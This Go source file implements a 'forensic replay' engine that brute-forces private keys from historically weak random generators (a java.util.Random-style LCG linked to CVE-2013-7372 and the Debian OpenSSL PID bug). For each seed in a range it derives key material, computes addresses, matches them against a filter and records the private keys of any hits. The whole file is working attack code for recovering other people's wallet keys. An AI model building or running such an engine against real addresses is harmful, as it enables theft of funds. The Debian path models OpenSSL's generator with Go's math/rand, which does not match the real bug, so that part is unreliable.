package strategy

import (
	"fmt"
	"math/rand"
	"sync/atomic"

	"github.com/nullshard/prospector/pkg/address"
	"github.com/nullshard/prospector/pkg/curve"
	"github.com/nullshard/prospector/pkg/types"
)

// ForensicReplay reproduces the exact state transitions of a known-broken
// PRNG over [SeedStart, SeedEnd), deriving 256-bit material per seed.
//
// Grounded on
// original_source/libs/domain/mining-strategy/src/engines/android_lcg_engine.rs
// (weak-rng-A, the Java SecureRandom/CVE-2013-7372 48-bit LCG) and
// original_source/libs/domain/mining-strategy/src/engines/forensic_engine.rs
// (weak-rng-B, the Debian OpenSSL PID-seeded entropy bug, CVE-2008-0166).
// Both reproduce deliberately weak entropy, never crypto/rand: weak-rng-A
// is a hand-written LCG and weak-rng-B uses math/rand — see DESIGN.md.
type ForensicReplay struct {
	Params *types.ForensicReplayParams
}

// Run implements Engine.
func (f *ForensicReplay) Run(filter Filter, stop <-chan struct{}, effort *atomic.Uint64, sink FindingSink) (string, error) {
	derive := materialDeriver(f.Params.Kind)

	lastSeed := f.Params.SeedStart
	var sinceTelemetry uint64

	for seed := f.Params.SeedStart; seed < f.Params.SeedEnd; seed++ {
		select {
		case <-stop:
			effort.Add(sinceTelemetry)
			return fmt.Sprintf("forensic_checkpoint_seed_%d", lastSeed), nil
		default:
		}

		material := derive(seed)
		p, err := curve.BootstrapScalarMul(fmt.Sprintf("%x", material))
		if err == nil {
			if x, y, ok := curve.ToAffine(p); ok {
				addr := address.FromXY(x, y, false)
				if filter.Query([]byte(addr)) {
					sink(addr, fmt.Sprintf("%x", material), fmt.Sprintf("%s_seed:%d", f.Params.Kind, seed))
				}
			}
		}

		lastSeed = seed
		sinceTelemetry++
		if sinceTelemetry >= telemetryBatch {
			effort.Add(sinceTelemetry)
			sinceTelemetry = 0
		}
	}

	effort.Add(sinceTelemetry)
	return fmt.Sprintf("forensic_checkpoint_seed_%d", lastSeed), nil
}

// materialDeriver returns the 32-byte private-key-material generator for a
// ForensicReplayKind.
func materialDeriver(kind types.ForensicReplayKind) func(seed int64) [32]byte {
	switch kind {
	case types.WeakRNGA:
		return androidLCGMaterial
	case types.WeakRNGB:
		return debianPIDMaterial
	default:
		return androidLCGMaterial
	}
}

// androidLCGMaterial replicates java.util.Random's 48-bit linear
// congruential generator seeded with seed, the low-entropy construction
// behind CVE-2013-7372: each of the eight 4-byte words is the top 32 bits
// of the 48-bit state (state >> 16), matching java.util.Random.next(32).
func androidLCGMaterial(seed int64) [32]byte {
	const multiplier = 0x5DEECE66D
	const increment = 0xB
	const mask = (int64(1) << 48) - 1

	state := (seed ^ multiplier) & mask

	var out [32]byte
	for i := 0; i < 8; i++ {
		state = (state*multiplier + increment) & mask
		v := uint32(state >> 16)
		out[i*4] = byte(v >> 24)
		out[i*4+1] = byte(v >> 16)
		out[i*4+2] = byte(v >> 8)
		out[i*4+3] = byte(v)
	}
	return out
}

// debianPIDMaterial reproduces the Debian OpenSSL bug's effective entropy
// collapse, where PRNG output depended only on the process PID. seed
// stands in for that PID; the weak PRNG it seeded is modeled here by
// math/rand, which is the correct tool for replaying historically weak
// (not cryptographically strong) entropy.
func debianPIDMaterial(seed int64) [32]byte {
	src := rand.New(rand.NewSource(seed))
	var out [32]byte
	src.Read(out[:])
	return out
}
